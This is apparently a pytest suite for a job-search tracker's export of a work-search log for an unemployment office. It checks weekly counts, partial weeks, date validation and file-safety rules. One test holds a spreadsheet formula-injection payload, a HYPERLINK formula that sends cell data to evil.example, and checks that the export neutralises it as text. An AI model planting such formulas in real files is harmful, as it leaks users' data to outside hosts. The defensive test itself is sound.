"""The work-search log for an unemployment office (SPEC 6a)."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from tests.cli.helpers import run, type_into
from tests.cli.test_rounds import summary_counts
from tests.workbooks import ACME, tracker

D = dt.date


@pytest.fixture
def search(tmp_path: Path) -> Path:
    """Two weeks of a search (Mon 2 to Sun 15 Nov 2026) with activities just outside them."""
    panel = {
        "Company": "Brightline",
        "Role": "Program Manager",
        "Interview date": D(2026, 11, 10),
        "Round": "Panel onsite",
        "Notes": "private: salary talk",
    }
    return tracker(
        tmp_path / "tracker.xlsx",
        interviews=[
            {**ACME, "Round": "Phone screen", "Notes": "private: felt nervous"},
            {**panel, "Interviewer": "Ana Diaz"},
            {**panel, "Interviewer": "Ben Okoro"},
            {**panel, "Interviewer": "Chloé Martin"},
            {**ACME, "Interview date": D(2026, 11, 16), "Round": "Onsite"},  # after the period
        ],
        log=[
            {
                "Date": D(2026, 11, 2),
                "Company": "Acme",
                "Direction": "Sent",
                "Channel": "Email",
                "Step": "thank-you",
                "Contact": "Dana Kim",
            },
            {
                "Date": D(2026, 11, 4),
                "Company": "Acme",
                "Direction": "Received",
                "Channel": "Email",
            },
            {
                "Date": D(2026, 11, 11),
                "Company": "Brightline",
                "Direction": "Sent",
                "Channel": "Voicemail",
                "Step": "thank-you",
                "Contact": "Ben Okoro",
            },
        ],
        search=[
            {"Date": D(2026, 11, 1), "Activity": "Application", "Company": "Too Early Inc"},
            {
                "Date": D(2026, 11, 3),
                "Activity": "Application",
                "Company": "Müller GmbH",
                "Notes": "private: dream job",
            },
            {
                "Date": D(2026, 11, 5),
                "Activity": "Cold call",
                "Company": "Initech",
                "Contact": "Peter Gibbons",
            },
            {"Date": D(2026, 11, 12), "Activity": "Event", "Notes": "job fair"},
            {"Date": D(2026, 11, 16), "Activity": "Networking", "Contact": "Too Late"},
        ],
        settings={"Your name": "Zoë Adams", "Work search activities required per week": 4},
    )


EXPECTED = [
    ["2026-11-02", "Acme", "Dana Kim", "Phone", "Analyst", "Interview (Phone screen)"],
    ["2026-11-02", "Acme", "Dana Kim", "Email", "Analyst", "Follow-up sent (thank-you)"],
    ["2026-11-03", "Müller GmbH", "", "Online application", "", "Applied"],
    ["2026-11-05", "Initech", "Peter Gibbons", "Phone", "", "Cold call made"],
    ["Week 2026-11-02 to 2026-11-08", "", "", "", "", "4 activities; 4 required: met."],
    [
        "2026-11-10",
        "Brightline",
        "Ana Diaz, Ben Okoro, Chloé Martin",
        "In person",
        "Program Manager",
        "Interview (Panel onsite)",
    ],
    [
        "2026-11-11",
        "Brightline",
        "Ben Okoro",
        "Phone",
        "Program Manager",
        "Follow-up sent (thank-you)",
    ],
    ["2026-11-12", "", "", "In person", "", "Attended a hiring or networking event"],
    ["Week 2026-11-09 to 2026-11-15", "", "", "", "", "3 activities; 4 required: 1 short."],
]


def test_work_search_csv_lists_the_activities_in_range_with_weekly_counts(
    search: Path, tmp_path: Path
) -> None:
    out = tmp_path / "log.csv"
    before = search.read_bytes()
    code, output = run(
        "export", str(search), "--work-search", str(out), "--as-of", "2026-11-20",
        "--from", "2026-11-02", "--until", "2026-11-15",
    )  # fmt: skip
    assert code == 0, output
    assert output == (
        f"Wrote the work-search log (7 activities in 2 weeks; 1 below the 4 required) to {out}.\n"
    )
    assert search.read_bytes() == before
    assert out.read_bytes().startswith(b"\xef\xbb\xbfDate,Employer,")  # Excel reads it as UTF-8
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["Date", "Employer", "Contact person", "Method", "Position", "Result"]
    assert sorted(rows[1:5]) == sorted(EXPECTED[:4]) and rows[5:] == EXPECTED[4:]
    assert "private" not in out.read_text("utf-8-sig")

    # Next week's log may replace this one; a file followup did not write may not.
    code, _ = run("export", str(search), "--work-search", str(out), "--as-of", "2026-11-20")
    assert code == 0
    theirs = tmp_path / "mine.csv"
    theirs.write_text("Client,Hours\n")
    code, output = run("export", str(search), "--work-search", str(theirs))
    assert code == 1 and "is not a work-search log that followup wrote" in output
    assert theirs.read_text() == "Client,Hours\n"


def test_work_search_workbook_defaults_to_the_last_four_weeks(search: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.xlsx"
    code, output = run("export", str(search), "--work-search", str(out), "--as-of", "2026-11-25")
    assert code == 0, output
    assert "(9 activities in 4 weeks, 1 partial; 2 of the 3 full weeks below the 4 required)" in (
        output
    )
    ws = openpyxl.load_workbook(out)["Work search"]
    cells = [[c for c in row if c is not None] for row in ws.iter_rows(values_only=True)]
    text = [str(row[0]) for row in cells if row]
    assert text[0] == "Work-search log of Zoë Adams: Mon 2 Nov 2026 to Wed 25 Nov 2026"
    weeks = [t for t in text if t.startswith("Week of")]
    assert weeks == [
        "Week of Mon 2 Nov 2026 to Sun 8 Nov 2026",
        "Week of Mon 9 Nov 2026 to Sun 15 Nov 2026",
        "Week of Mon 16 Nov 2026 to Sun 22 Nov 2026",
        "Week of Mon 23 Nov 2026 to Sun 29 Nov 2026 (partial: Mon-Wed)",
    ]
    counts = [t for t in text if "required" in t and not t.startswith("4 activities required")]
    assert counts == [
        "4 activities; 4 required: met.",
        "3 activities; 4 required: 1 short.",
        "2 activities; 4 required: 2 short.",
        "0 activities; partial week (Mon-Wed), not checked against the 4 required.",
    ]
    assert text[1].startswith(
        "4 activities required per week (Settings). A week the period cuts is marked partial."
    )
    dated = [row for row in cells if row and isinstance(row[0], dt.datetime)]
    assert len(dated) == 9 and dated[0][0] == dt.datetime(2026, 11, 2)


def test_work_search_needs_a_fitting_name_and_an_orderly_period(search: Path) -> None:
    code, output = run("export", str(search), "--work-search", "log.ics")
    assert code == 2 and "log.ics is not a name for a work-search log" in output
    code, output = run(
        "export",
        str(search),
        "--work-search",
        "log.csv",
        "--from",
        "2026-11-20",
        "--until",
        "2026-11-02",
    )
    assert (code, output) == (
        2,
        "Usage: main export [OPTIONS] TRACKER.xlsx\nTry 'main export --help' for help."
        "\n\nError: Invalid value for '--from': the period starts (2026-11-20) after it ends "
        "(2026-11-02): check --from and --until.\n",
    )
    # Told before anything is written, even an export asked for beside it.
    code, output = run(
        "export", str(search), "--to", "c.xlsx", "--work-search", "log.csv",
        "--from", "2026-11-30", "--as-of", "2026-11-20",
    )  # fmt: skip
    # With no --until, the period ends on the as-of date: --until is not what to check.
    assert code == 2 and output.endswith(
        "Error: Invalid value for '--from': the period starts (2026-11-30) after it ends "
        "(2026-11-20, the day the log is written for, as no --until was given): it can only "
        "list what was done. Check --from (or give a later --as-of).\n"
    )
    code, output = run(
        "export", str(search), "--work-search", "log.csv",
        "--from", "2026-11-30", "--until", "2026-12-31", "--as-of", "2026-11-20",
    )  # fmt: skip
    assert code == 2 and output.endswith(
        "Error: Invalid value for '--from': the period starts (2026-11-30) after 2026-11-20, "
        "the day the log is written for: it can only list what was done. Check --from (or "
        "--as-of).\n"
    )
    assert not Path("c.xlsx").exists() and not Path("log.csv").exists()
    code, output = run("export", str(search), "--to", "c.xlsx", "--from", "2026-11-20")
    assert code == 2 and "--from and --until are for the work-search log" in output


def _log(path: Path, out: Path, *args: str) -> tuple[str, list[list[str]]]:
    code, output = run("export", str(path), "--work-search", str(out), *args)
    assert code == 0, output
    with out.open(encoding="utf-8-sig", newline="") as f:
        return output, list(csv.reader(f))


def _week_rows(rows: list[list[str]]) -> list[tuple[str, str]]:
    return [(row[0], row[5]) for row in rows if row[0].startswith("Week ")]


@pytest.mark.parametrize(
    ("args", "weeks", "totals"),
    [
        (  # the default period on a Monday: this week has had one day
            ["--as-of", "2026-11-23"],
            [
                ("Week 2026-11-02 to 2026-11-08", "4 activities; 4 required: met."),
                ("Week 2026-11-09 to 2026-11-15", "3 activities; 4 required: 1 short."),
                ("Week 2026-11-16 to 2026-11-22", "2 activities; 4 required: 2 short."),
                (
                    "Week 2026-11-23 to 2026-11-29 (partial: Mon only)",
                    "0 activities; partial week (Mon only), not checked against the 4 required.",
                ),
            ],
            "9 activities in 4 weeks, 1 partial; 2 of the 3 full weeks below the 4 required",
        ),
        (  # from a Thursday, until a Sunday
            ["--as-of", "2026-11-25", "--from", "2026-11-05", "--until", "2026-11-22"],
            [
                (
                    "Week 2026-11-02 to 2026-11-08 (partial: Thu-Sun)",
                    "1 activity; partial week (Thu-Sun), not checked against the 4 required.",
                ),
                ("Week 2026-11-09 to 2026-11-15", "3 activities; 4 required: 1 short."),
                ("Week 2026-11-16 to 2026-11-22", "2 activities; 4 required: 2 short."),
            ],
            "6 activities in 3 weeks, 1 partial; 2 of the 2 full weeks below the 4 required",
        ),
        (  # cut at both ends, nothing but partial weeks
            ["--as-of", "2026-11-25", "--from", "2026-11-05", "--until", "2026-11-10"],
            [
                (
                    "Week 2026-11-02 to 2026-11-08 (partial: Thu-Sun)",
                    "1 activity; partial week (Thu-Sun), not checked against the 4 required.",
                ),
                (
                    "Week 2026-11-09 to 2026-11-15 (partial: Mon-Tue)",
                    "1 activity; partial week (Mon-Tue), not checked against the 4 required.",
                ),
            ],
            "2 activities in 2 weeks, all partial: not checked against the 4 required",
        ),
        (  # --until after the as-of date: the log stops on it, no empty weeks to come
            ["--as-of", "2026-11-17", "--from", "2026-11-09", "--until", "2026-12-31"],
            [
                ("Week 2026-11-09 to 2026-11-15", "3 activities; 4 required: 1 short."),
                (
                    "Week 2026-11-16 to 2026-11-22 (partial: Mon-Tue)",
                    "2 activities; partial week (Mon-Tue), not checked against the 4 required.",
                ),
            ],
            "5 activities in 2 weeks, 1 partial; 1 of the 1 full week below the 4 required",
        ),
    ],
)
def test_a_week_the_period_cuts_is_partial_and_never_short(
    search: Path, tmp_path: Path, args: list[str], weeks: list[tuple[str, str]], totals: str
) -> None:
    out = tmp_path / "log.csv"
    output, rows = _log(search, out, *args)
    assert output == f"Wrote the work-search log ({totals}) to {out}.\n"
    assert _week_rows(rows) == weeks


def test_a_period_that_starts_after_the_as_of_date_is_refused(search: Path, tmp_path: Path) -> None:
    out = tmp_path / "log.csv"
    code, output = run(
        "export", str(search), "--work-search", str(out), "--as-of", "2026-11-20",
        "--from", "2026-11-23", "--until", "2026-11-29",
    )  # fmt: skip
    assert (code, output) == (
        2,
        "Usage: main export [OPTIONS] TRACKER.xlsx\nTry 'main export --help' for help.\n\n"
        "Error: Invalid value for '--from': the period starts (2026-11-23) after 2026-11-20, "
        "the day the log is written for: it can only list what was done. Check --from (or "
        "--as-of).\n",
    )
    assert not out.exists()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    """Text a spreadsheet would run as a formula is written so it shows as typed."""
    path = tracker(
        tmp_path / "t.xlsx",
        search=[
            {"Date": D(2026, 11, 3), "Activity": "Application", "Company": "(formula)",
             "Contact": "@SUM(1+1)", "Role": "+44 20 7946 0000"},
            {"Date": D(2026, 11, 4), "Activity": "Networking", "Company": "-Minus Corp",
             "Contact": "Ana = Bo", "Role": "Lead - Data"},
        ],
    )  # fmt: skip
    # Typed as text (Excel: a leading apostrophe, or a cell formatted as Text).
    book = openpyxl.load_workbook(path)
    cell = next(c for row in book["Search"].iter_rows() for c in row if c.value == "(formula)")
    cell.value, cell.data_type = FORMULA, "s"
    book.save(path)
    _, rows = _log(path, tmp_path / "log.csv", "--as-of", "2026-11-08")
    assert [row[1:5] for row in rows if row[0].startswith("2026-")] == [
        ["'" + FORMULA, "'@SUM(1+1)", "Online application", "'+44 20 7946 0000"],
        ["'-Minus Corp", "Ana = Bo", "Other", "Lead - Data"],
    ]
    book = tmp_path / "log.xlsx"
    assert run("export", str(path), "--work-search", str(book), "--as-of", "2026-11-08")[0] == 0
    cells = [c for row in openpyxl.load_workbook(book)["Work search"].iter_rows() for c in row]
    typed = [c for c in cells if c.value == FORMULA]
    assert len(typed) == 1 and typed[0].data_type == "s"  # text in a workbook, not a formula


def _methods(path: Path, out: Path) -> list[tuple[str, str]]:
    _output, rows = _log(path, out, "--as-of", "2026-11-08")
    return [(row[1], row[3]) for row in rows[1:] if not row[0].startswith("Week ")]


def test_an_imported_list_says_how_each_application_was_made(tmp_path: Path) -> None:
    source = tmp_path / "applications.csv"
    source.write_text(
        "Company,Position,Date applied,How applied,Status\n"
        "Acme,Analyst,2026-11-02,In person,Applied\n"
        "Globex,Clerk,2026-11-03,Emailed the hiring manager,\n"
        "Initech,Tester,2026-11-04,Career fair,\n"
        "Hooli,Developer,2026-11-05,LinkedIn Easy Apply,Rejected after 2nd round\n"
        "Umbrella,Chemist,2026-11-06,,\n",
        encoding="utf-8",
    )
    new = tmp_path / "tracker.xlsx"
    code, output = run("import", str(source), str(new))
    assert code == 0, output
    assert "  How applied -> kept as an extra column; Search reads it as Method" in output
    assert _methods(new, tmp_path / "log.csv") == [
        ("Acme", "In person"),
        ("Globex", "Email"),
        ("Initech", "In person"),
        ("Hooli", "Online application"),
        ("Umbrella", "Online application"),
    ]


@pytest.mark.parametrize("writer", ["openpyxl", "xlsxwriter"])
def test_a_method_column_the_user_added_to_search_is_read(tmp_path: Path, writer: str) -> None:
    from followup.schema import SEARCH
    from tests.workbooks import write

    names = [c.header for c in SEARCH.template_columns] + ["Applied via"]
    rows = [
        (D(2026, 11, 2), "Application", "Acme", "Analyst", "phone call to the store"),
        (D(2026, 11, 3), "Application", "Globex", "Clerk", "Walk-in"),
        (D(2026, 11, 4), "Networking", "Initech", "", "E-mail"),
        (D(2026, 11, 5), "Application", "Hooli", "Developer", "company website"),
    ]
    search = [names] + [[d, a, c, r, None, None, None, via] for d, a, c, r, via in rows]
    interviews = [["Company", "Role", "Interview date"]]
    path = write(tmp_path / "t.xlsx", {"Interviews": interviews, "Search": search}, writer=writer)
    assert _methods(path, tmp_path / "log.csv") == [
        ("Acme", "Phone"),
        ("Globex", "In person"),
        ("Initech", "Email"),
        ("Hooli", "Online application"),
    ]


@pytest.mark.parametrize(
    ("logged", "typed", "listed"),
    [
        # Logged a day after the tick: the ticked send, on its day.
        (D(2026, 11, 25), "x", ["2026-11-24", "Acme", "Dana Kim", "Email", "Analyst"]),
        # Logged before the day typed as done: the logged send.
        (
            D(2026, 11, 24),
            dt.datetime(2026, 11, 26),
            ["2026-11-24", "Acme", "", "Email", "Analyst"],
        ),
        # The same day: one.
        (D(2026, 11, 24), "x", ["2026-11-24", "Acme", "", "Email", "Analyst"]),
    ],
)
def test_a_send_both_logged_and_ticked_is_one_activity_on_its_earlier_day(
    tmp_path: Path, logged: dt.date, typed: object, listed: list[str]
) -> None:
    log = [{"Date": logged, "Company": "Acme", "Direction": "Sent", "Step": "status-email"}]
    path = tracker(tmp_path / "t.xlsx", [ACME], writer="xlsxwriter")
    assert run("refresh", str(path), "--as-of", "2026-11-23", "--no-backup")[0] == 0
    type_into(path, "This Week", {"Step": "status-email"}, {"Done": typed})
    wb = openpyxl.load_workbook(path)
    header = [c.value for c in wb["Log"][1]]
    wb["Log"].append([log[0].get(h) for h in header])
    wb.save(path)
    code, output = run("refresh", str(path), "--as-of", "2026-11-30", "--no-backup")
    assert code == 0, output
    assert summary_counts(path)["Sent in the last 7 days"] == "1"
    out = tmp_path / "log.csv"
    code, output = run("export", str(path), "--work-search", str(out), "--as-of", "2026-11-30")
    assert code == 0, output
    with out.open(encoding="utf-8-sig", newline="") as f:
        sent = [row[:5] for row in csv.reader(f) if row[5] == "Follow-up sent (status-email)"]
    assert sent == [listed]
